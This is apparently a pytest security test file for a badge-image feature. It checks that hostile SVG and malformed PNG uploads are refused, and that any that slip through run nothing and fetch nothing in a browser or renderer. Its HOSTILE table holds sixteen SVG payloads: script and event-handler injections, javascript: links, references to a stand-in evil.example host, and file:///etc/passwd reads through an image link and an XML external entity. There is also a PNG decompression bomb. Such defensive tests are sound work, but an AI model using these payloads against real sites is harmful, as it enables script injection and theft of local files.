"""Badge pictures that attack whoever looks: refused at the door, and harmless if they got in."""

from __future__ import annotations

import base64
import io
import random
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

from core.badge_images import PNG, ImageRefused, as_png, checked_image
from core.domain.people import Actor
from tests.attacks.images import bomb, damaged, encode, lying, photo
from tests.bots.web.served import Served
from tests.support.afar import sockets_watched
from tests.support.installed import Mould, TurnedClock, opened
from tests.support.journeys import Town, badge

if TYPE_CHECKING:
    from playwright.sync_api import Browser

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
EVIL = "https://evil.example/x"
# Each one would act, or reach out, in a browser or a program that reads it carelessly.
HOSTILE = {
    "script": f"{HEAD}><script>alert(1)</script></svg>",
    "script from elsewhere": f'{HEAD}><script href="{EVIL}.js"/></svg>',
    "onload": f'{HEAD} onload="alert(1)"></svg>',
    "onclick": f'{HEAD}><rect width="9" height="9" onclick="alert(1)" onmouseover="alert(1)"/></svg>',
    "link": f'{HEAD}><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
    "animated link": f'{HEAD}><a><set attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a></svg>',
    "page inside": f'{HEAD}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>',
    "image with onerror": f'{HEAD}><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject></svg>',
    "picture from elsewhere": f'{HEAD}><image href="{EVIL}.png" width="9" height="9"/></svg>',
    "picture from this machine": f'{HEAD}><image href="file:///etc/passwd" width="9" height="9"/></svg>',
    "style from elsewhere": f'{HEAD}><style>@import url("{EVIL}.css");</style></svg>',
    "colour from elsewhere": f'{HEAD}><rect width="9" height="9" fill="url({EVIL}.svg#a)"/></svg>',
    "entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{HEAD}><desc>&x;</desc></svg>',
    "style sheet instruction": f'<?xml-stylesheet href="{EVIL}.xsl" type="text/xsl"?>{HEAD}></svg>',
    "use from elsewhere": f'{HEAD}><use href="data:image/svg+xml,%3Csvg%20onload=alert(1)%3E#a"/></svg>',
    "draws without end": f'{HEAD}><g id="a"><use href="#a"/><use href="#a"/></g></svg>',
}


def test_there_are_sixteen_of_them() -> None:
    assert len(HOSTILE) == 16


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_drawing_is_refused_at_the_door(name: str) -> None:
    with pytest.raises(ImageRefused):
        checked_image(HOSTILE[name])


def malformed() -> dict[str, bytes]:
    whole = encode(photo(100, 100), "PNG")
    dice = random.Random(6)
    found = {f"damaged {number}": damaged(whole, dice) for number in range(4)}
    found |= {f"lying {name}": content for name, content in lying("PNG").items()}
    found |= {"bomb": bomb(4096, 4096), "cut off": whole[:60], "page": b"<script>alert(1)</script>"}
    found["page behind a picture"] = whole + b"<script>alert(1)</script>"
    found["page in a text"] = whole[:33] + _text(b"Comment\0<script>alert(1)</script>") + whole[33:]
    return found


def _text(body: bytes) -> bytes:
    from tests.attacks.images import chunk

    return chunk(b"tEXt", body)


@pytest.mark.parametrize("name", malformed())
def test_a_malformed_png_is_refused_or_drawn_anew(name: str) -> None:
    try:
        checked = checked_image(PNG + base64.b64encode(malformed()[name]).decode())
    except ImageRefused:
        return
    drawn = as_png(checked)
    assert b"<script" not in drawn
    with Image.open(io.BytesIO(drawn)) as picture:
        assert picture.format == "PNG"
        assert not picture.info
        picture.load()


def got_in(town: Town, image: str, ana: Actor, bo: Actor) -> str:
    """A shared award of a badge whose picture nobody checked, as no file of ours can make one."""
    with town.app.store.transaction(town.community.id) as tx:
        tx.catalogue.put(badge().model_copy(update={"image": image}))
    award = town.awarded(ana, bo)
    town.app.awarding.share(ana, award, shared=True)
    return award


def looked_at(place: tuple[Any, Any, Any], browser: Browser, images: list[str]) -> None:
    """Each picture in a browser, opened in every way there is: nothing runs or is asked for."""
    folder, mould, clock = place
    with opened(folder, mould.sqlite(folder / "e.db"), clock) as app:
        town = Town(app)
        bo = town.assessor()
        awards = [got_in(town, one, town.learner(), bo) for one in images]
        with Served(app) as served:
            acted, asked = visited(browser, served.url, awards)
    assert acted == []
    assert {one for one in asked if not one.startswith((served.url, "data:"))} == set()


def test_even_one_that_got_in_acts_nowhere(
    mould: Mould, tmp_path: Path, clock: TurnedClock, browser: Browser
) -> None:
    some = [HOSTILE[name] for name in ("script", "onload", "style from elsewhere", "entity")]
    looked_at((tmp_path, mould, clock), browser, some)


@pytest.mark.stress
def test_none_of_those_that_got_in_acts_anywhere(
    mould: Mould, tmp_path: Path, clock: TurnedClock, browser: Browser
) -> None:
    looked_at((tmp_path, mould, clock), browser, list(HOSTILE.values()))


def visited(browser: Browser, url: str, awards: list[str]) -> tuple[list[str], list[str]]:
    """What acted, and what was asked for, while each award was looked at.

    What the policy of the page forbade never left the browser, and does not count.
    """
    context = browser.new_context()
    acted: list[str] = []
    asked: list[str] = []
    context.on("requestfinished", lambda request: asked.append(request.url))
    context.on("requestfailed", lambda request: _failed(request, asked))
    page = context.new_page()
    page.on("dialog", lambda dialog: (acted.append(dialog.message), dialog.dismiss()))
    for award in awards:
        page.goto(f"{url}/awards/{award}")
        page.evaluate("document.querySelector('article header img').click()")
        drawing = page.goto(f"{url}/credentials/{award}.svg")
        assert drawing is not None
        assert drawing.status in (200, 404)
        assert "default-src 'none'" in drawing.headers["content-security-policy"]
        assert drawing.status == 404 or "sandbox" in drawing.headers["content-security-policy"]
    context.close()
    return acted, asked


def _failed(request: Any, asked: list[str]) -> None:
    # Forbidden by the policy or by the browser itself: other origins, and files of this machine.
    forbidden = request.failure in ("csp", "origin") or request.url.startswith("file:")
    if not forbidden:
        asked.append(f"{request.url} {request.failure}")


def test_what_is_drawn_from_one_that_got_in_is_dots_and_asks_for_nothing() -> None:
    from core.typesetting import Typesetter, picture, spoken

    common = {**spoken("en", rtl=False), "name": "x", "by": "x", "mark": "x"}
    for image in HOSTILE.values():
        with sockets_watched() as seen:
            for draw in (
                lambda image=image: as_png(image),
                lambda image=image: Typesetter().png(
                    "card.typ", common | {"image": picture(image)}
                ),
            ):
                try:
                    drawn = draw()
                except Exception:  # noqa: BLE001  which one is the library's own affair
                    continue
                assert drawn.startswith(b"\x89PNG")
        assert seen == []
